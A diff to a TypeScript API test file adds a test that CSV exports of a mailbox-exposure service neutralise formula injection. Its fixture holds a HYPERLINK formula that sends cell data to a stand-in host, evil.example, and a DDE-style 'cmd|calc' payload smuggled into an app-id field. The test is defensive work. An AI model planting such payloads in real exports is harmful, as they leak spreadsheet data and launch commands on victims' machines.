@@ -5,6 +5,7 @@
  */
 import { parse as parseCsv } from 'csv-parse/sync';
 import { ApiKeyStore } from '../../src/api/http/auth';
+import { makeBindRecord, toNdjson } from '../fixtures/generate.cjs';
 import { startTestServer, type TestServer } from '../support/server';
 import { expected, ids, importIncident } from './contract-queries';
 
@@ -198,6 +199,29 @@ describe('REST mirror /api/v1', () => {
     expect((await json(del)).errors[0].extensions.code).toBe('METHOD_NOT_ALLOWED');
   });
 
+  test('CSV cells an attacker shaped (folder path, app id) cannot run as formulas; JSON keeps them verbatim', async () => {
+    const evil = { folder: '=HYPERLINK("http://evil.example/?"&A1,"open")', app: '@SUM(1+1)*cmd|calc' };
+    const record = makeBindRecord({
+      time: '2025-03-12T09:00:00',
+      mailbox: 'mallory@contoso.com',
+      sessionId: 'f0f0f0f0-1111-4222-8333-944445555666',
+      clientIp: '198.18.0.99',
+      clientAppId: evil.app,
+      folders: [{ path: evil.folder, items: ['<evil-1@example.com>'] }],
+    });
+    const [batch] = await t.importer.importContent(toNdjson([record]), { orgId: 1, source: 'cli', fileName: 'evil.ndjson' });
+    expect(batch.status).toBe('SUCCEEDED');
+    const path = '/mailboxes/mallory@contoso.com/exposure';
+    const jsonRows = (await followAll(`${base}${path}`, t.key)).rows;
+    expect(jsonRows[0].folders).toEqual([evil.folder]);
+    const csv = await (await get(`${path}?format=csv`)).text();
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const [row] = parseCsv(csv, { columns: true }) as Record<string, string>[];
+    expect(JSON.parse(row.folders)).toEqual([evil.folder]);
+    const timeline = parseCsv(await (await get('/timeline?mailbox=mallory@contoso.com', { accept: 'text/csv' })).text(), { columns: true }) as Record<string, string>[];
+    expect(timeline.map((r) => r.clientAppId)).toEqual([`'${evil.app}`]);
+  });
+
   test('every REST request is in the access log with its operationId and row count', async () => {
     const logged = () => t.db.dataSource.query(`SELECT route, operation, rows_returned, status FROM access_log WHERE operation = 'listAccessLog' ORDER BY id DESC`);
     const before = (await logged()).length;
@@ -206,7 +230,7 @@ describe('REST mirror /api/v1', () => {
     for (let i = 0; i < 50 && (await logged()).length === before; i++) await new Promise((r) => setTimeout(r, 50));
     const rows = await logged();
     expect(rows).toHaveLength(before + 1);
-    expect(rows[0]).toEqual({ route: 'GET /api/v1', operation: 'listAccessLog', rows_returned: 2, status: 200 });
+    expect(rows[0]).toEqual({ route: 'GET /api/v1/access-log', operation: 'listAccessLog', rows_returned: 2, status: 200 });
   });
 });
 
